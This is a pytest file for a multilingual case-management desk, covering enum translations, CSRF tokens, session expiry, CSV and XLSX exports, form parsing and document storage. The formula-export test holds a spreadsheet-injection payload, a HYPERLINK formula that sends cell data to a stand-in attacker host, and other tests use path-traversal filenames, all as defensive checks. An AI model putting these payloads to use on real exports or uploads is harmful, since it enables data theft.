"""The desk's pure parts: the catalogue has words for every enum the API answers with and for every label,
CSRF tokens, the CSV and XLSX writers, form bodies, the API's field errors placed on the form, My work's
order."""

from __future__ import annotations

import asyncio
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook

from services.desk import exports
from services.desk.actions import field_errors, problem_words
from services.desk.commands import COMMANDS
from services.desk.fields import Invalid, body_of
from services.desk.lists import LISTS
from services.desk.messages import ENUMS, LANGS, word
from services.desk.security import Csrf, Idle
from services.desk.texts import TEXTS, text
from services.desk.upstream import Answer
from services.desk.work import Item, ordered
from shared.contracts import alerts, corrections, enforcement, filing, notary  # noqa: F401 (event types declared)
from shared.contracts.base import REGISTRY
from shared.contracts.regions import Domain
from shared.core.settings import ROOT

# The services the desk serves (services added later get their words when the desk serves them).
SERVED = ("filing", "alerts", "corrections", "notary", "enforcement")
OPENAPI = [ROOT / "docs" / "openapi" / f"{name}.json" for name in SERVED]


def _enums():
    """(catalogue kind, values) of every enum in the OpenAPI documents: a named schema by its name, an
    inline one by its property's name."""
    for path in OPENAPI:
        schemas = json.loads(path.read_text())["components"]["schemas"]
        for name, schema in schemas.items():
            if "enum" in schema:
                yield name, schema["enum"]
            for prop, spec in schema.get("properties", {}).items():
                for option in [spec, *spec.get("anyOf", [])]:
                    if "enum" in option and option.get("type") == "string":
                        yield prop, option["enum"]


def test_every_enum_of_the_api_has_words_in_both_languages():
    found = list(_enums())
    assert len(found) > 20
    for kind, values in found:
        if kind == "Region" or (kind not in ENUMS and kind in ("role", "kind", "status", "outcome")):
            pass
        assert kind in ENUMS, f"no words for {kind}"
        for value in values:
            assert value in ENUMS[kind], f"{kind}.{value} has no words"
            zh, en = ENUMS[kind][value]
            assert zh and en and zh != value


def test_every_event_of_the_served_services_has_words_for_the_timeline():
    served = {Domain(name) for name in SERVED}
    names = {e.name for e in REGISTRY.values() if e.domain in served}
    assert names and not names - set(ENUMS["Event"])


def test_every_field_of_a_record_page_has_a_label():
    views = ("FilingView", "AlertView", "ListedAlert", "Acknowledgement", "Sighting", "Reinforcement", "SubjectView",
             "Travel", "Transfer", "Violation", "CertificateView", "Verification", "ProofRequestView", "MaskedParty",
             "Document", "VerifyResult", "AuditEntry", "DecisionView", "DecisionParty", "BenchmarkView",
             "BenchmarkVersion", "BenchmarkVote", "TierRule", "PenaltyRange", "Penalty", "Factors", "Criterion",
             "RegionFigures")  # fmt: skip
    names = set()
    for path in OPENAPI:
        schemas = json.loads(path.read_text())["components"]["schemas"]
        for view in views:
            names |= set(schemas.get(view, {}).get("properties", {}))
    assert len(names) > 100
    assert sorted(n for n in names if n not in TEXTS) == []


def test_words_follow_the_language_and_never_show_a_raw_code():
    assert word("CaseType", "civil", "zh-CN") == "民事"
    assert word("CaseType", "civil", "en") == "Civil"
    assert word("VerificationResult", "hash_mismatch", "zh-CN").startswith("文件不一致")
    assert word("bool", True, "en") == "Yes"
    assert word("Region", None, "en") == "—"


def test_every_label_and_command_has_text_in_both_languages():
    keys = {c.name for c in COMMANDS.values()}
    keys |= {f.label for c in COMMANDS.values() for f in c.fields}
    keys |= {f.label for s in LISTS.values() for f in s.filters} | {c.label for s in LISTS.values() for c in s.columns}
    keys |= set(LISTS)
    missing = sorted(k for k in keys if k not in TEXTS)
    assert not missing
    for key in keys:
        assert all(text(key, lang) for lang in LANGS)
    for kind in {f.enum for c in COMMANDS.values() for f in c.fields if f.enum}:
        assert kind in ENUMS


def test_a_csrf_token_belongs_to_its_session_and_process():
    csrf = Csrf()
    token = csrf.token("session-a")
    assert csrf.valid("session-a", token)
    assert not csrf.valid("session-b", token)
    assert not csrf.valid("session-a", "")
    assert not Csrf().valid("session-a", token)  # another process's key


def test_idle_sessions_expire_after_the_set_time():
    idle = Idle(60)
    idle.touch("s", now=100.0)
    assert not idle.expired("s", now=150.0)
    assert idle.expired("s", now=161.0)
    assert not idle.expired("never-seen", now=1e9)


async def _rows(rows):
    for row in rows:
        yield row


def _collect(stream) -> bytes:
    async def run() -> bytes:
        return b"".join([chunk async for chunk in stream])

    return asyncio.run(run())


def test_the_csv_export_is_utf8_with_a_bom_and_quotes_what_it_must():
    data = _collect(exports.csv_stream(["编号", "状态"], _rows([["f-1", "已立案"], ["f-2", '含"引号", 逗号']])))
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[:3] == ["编号,状态", "f-1,已立案", 'f-2,"含""引号"", 逗号"']


def test_the_xlsx_export_opens_with_the_rows():
    data = _collect(exports.xlsx_stream("filings", ["编号", "金额"], _rows([["f-1", 120000], ["f-2", None]])))
    sheet = load_workbook(io.BytesIO(data)).active
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [["编号", "金额"], ["f-1", 120000], ["f-2", None]]


def test_a_form_becomes_the_apis_body():
    command = COMMANDS["alert.raise"]
    form = {
        "category": "fugitive", "severity": "I", "title": "t", "description": "d", "location.address": "a",
        "location.lat": "31.02", "location.lon": "120", "subjects.0.kind": "person", "subjects.0.description": "",
        "action": "locate", "targets": ["jiashan"], "valid_until": "2026-12-08T10:00:00",
    }  # fmt: skip
    body = body_of(command.fields, form)
    assert body["location"] == {"address": "a", "lat": 31.02, "lon": 120}
    assert body["subjects"] == [{"kind": "person"}]
    assert body["targets"] == ["jiashan"]
    assert body["valid_until"] == "2026-12-08T10:00:00+08:00"
    with pytest.raises(Invalid) as missing:
        body_of(command.fields, {**form, "title": " "})
    assert missing.value.field == "title"
    with pytest.raises(Invalid):
        body_of(command.fields, {**form, "location.lat": "north"})


def test_the_apis_field_errors_land_beside_the_forms_fields():
    command = COMMANDS["filing.submit"]
    answer = Answer(422, problem={"errors": [
        {"field": "parties.0.id_number", "message": "bad checksum"},
        {"field": "claim_summary", "message": "too long"},
        {"field": "somewhere.else", "message": "other"},
    ]})  # fmt: skip
    assert field_errors(command, answer) == {
        "parties.0.identifier": "bad checksum", "claim_summary": "too long", "_": "other"
    }  # fmt: skip


def test_a_conflict_is_explained_with_the_current_status_in_words():
    words = problem_words(Answer(409, problem={"current_status": "accepted"}), lambda k, **kw: text(k, "en", **kw),
                          lambda e, v: word(e, v, "en"), "FilingStatus")  # fmt: skip
    assert words == "Not allowed now: the record is Accepted."


def test_my_work_puts_overdue_first_then_the_soonest_deadline():
    now = datetime.now(UTC)

    def item(name, hours, overdue=False):
        return Item("s", name, name, ("FilingStatus", "received"), now + timedelta(hours=hours), overdue)

    later, sooner, late = item("later", 50), item("sooner", 2), item("late", -3, True)
    undated = Item("s", "none", "none", ("FilingStatus", "received"), None, False)
    assert [i.href for i in ordered([later, undated, sooner, late])] == ["late", "sooner", "later", "none"]


def test_an_export_never_hands_a_spreadsheet_a_formula():
    title = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    rows = [["f-1", title], ["f-2", "+1"], ["f-3", "@SUM(A1)"], ["f-4", "\tx"], ["f-5", -3]]
    lines = _collect(exports.csv_stream(["编号", "标题"], _rows(rows))).decode("utf-8-sig").split("\r\n")
    assert lines[1] == 'f-1,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"'
    assert lines[2:6] == ["f-2,'+1", "f-3,'@SUM(A1)", "f-4,'\tx", "f-5,-3"]
    data = _collect(exports.xlsx_stream("filings", ["编号", "标题"], _rows([["f-1", title]])))
    cell = load_workbook(io.BytesIO(data)).active["B2"]
    assert (cell.value, cell.data_type) == (title, "s")


async def _refused_after_one_page():
    yield ["f-1", "已立案"]
    raise exports.ExportRefused(403, "page 2 refused")


def test_an_export_whose_later_page_is_refused_says_so():
    lines = _collect(exports.csv_stream(["编号", "状态"], _refused_after_one_page())).decode("utf-8-sig")
    assert lines.split("\r\n")[1:3] == ["f-1,已立案", "page 2 refused"]
    with pytest.raises(exports.ExportRefused):
        asyncio.run(exports.xlsx_file("filings", ["编号", "状态"], _refused_after_one_page()))


def test_a_select_outside_its_choices_is_a_field_error():
    audit = LISTS["audit"]
    for bad in ("x", "audit"):
        with pytest.raises(Invalid) as raised:
            body_of(audit.filters, {"service": bad})
        assert raised.value.field == "service"
    assert body_of(audit.filters, {"service": "notary"}) == {"service": "notary"}
    with pytest.raises(Invalid):
        body_of(LISTS["filings"].filters, {"status": "lost"})


def _form_with(name: str, filename: str, content: bytes):
    from starlette.datastructures import FormData, Headers, UploadFile

    upload = UploadFile(io.BytesIO(content), filename=filename, headers=Headers({"content-type": "application/pdf"}))
    return FormData([(name, upload)])


def test_a_verified_certificate_is_hashed_never_kept_and_an_issued_one_is_handed_back_to_keep():
    from services.desk.actions import _documents
    from services.desk.documents import sha256_of

    content = b"%PDF-1.7 certificate"
    for name, keeps in (("certificate.verify", False), ("certificate.issue", True)):
        command = COMMANDS[name]
        field = next(f for f in command.fields if f.kind in ("file", "files"))
        body: dict = {}
        to_keep = asyncio.run(_documents(command, _form_with(field.name, "../../cert.pdf", content), body))
        assert body["document_sha256"] == sha256_of(content)
        assert to_keep == ([("../../cert.pdf", content)] if keeps else [])


def test_the_store_keeps_a_file_for_its_owner_only_and_sweeps_it_after_the_retention(tmp_path):
    import os
    import stat
    import time

    from services.desk.documents import DocumentStore

    store = DocumentStore(tmp_path / "documents", retention_days=30)
    stored = store.keep("../x/deed.pdf", b"deed")
    path = tmp_path / "documents" / stored.sha256
    assert stored.name == "deed.pdf" and store.has(stored.sha256)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    fresh = store.keep("other.pdf", b"other")
    old = time.time() - 31 * 86400
    os.utime(path, (old, old))
    assert store.sweep() == 1
    assert not store.has(stored.sha256) and store.has(fresh.sha256)
    assert store.sweep(now=time.time() + 31 * 86400) == 1 and not store.has(fresh.sha256)


def test_the_decision_form_becomes_a_decision_the_api_accepts():
    from services.desk.actions import _finish
    from shared.contracts.commands import RecordDecision

    form = {
        "code": "ENV-WATER-01", "violation_date": "2026-11-20", "factors.first_offence": "on",
        "factors.harm": "minor", "factors.exceedance_ratio": "0.2", "party.kind": "organisation",
        "party.name": "青浦某某印染有限公司", "party.identifier": "91330421MA2B3C4D5K", "penalty.fine_yuan": "50000",
        "outside_reason": "主动消除危害后果",
    }  # fmt: skip
    body = _finish(COMMANDS["decision.record"], body_of(COMMANDS["decision.record"].fields, form))
    decided = RecordDecision.model_validate(body)
    assert decided.factors.first_offence is True and decided.factors.obstruction is False
    assert decided.party.credit_code == "91330421MA2B3C4D5K" and decided.penalty.fine_yuan == 50000
    assert decided.penalty.warning is False and decided.outside_reason == "主动消除危害后果"


def test_a_value_with_parts_names_each_part_in_words():
    from services.desk.records import shown

    penalty = {"warning": False, "fine_yuan": 50000, "suspension_days": None}
    assert shown("penalty", penalty, lambda e, x: word(e, x, "zh-CN")) == "警告: 否; 罚款（元）: 50000"
    factors = {"first_offence": True, "harm": "minor"}
    assert shown("factors", factors, lambda e, x: word(e, x, "en")) == "First offence: Yes; Harm: Minor harm"
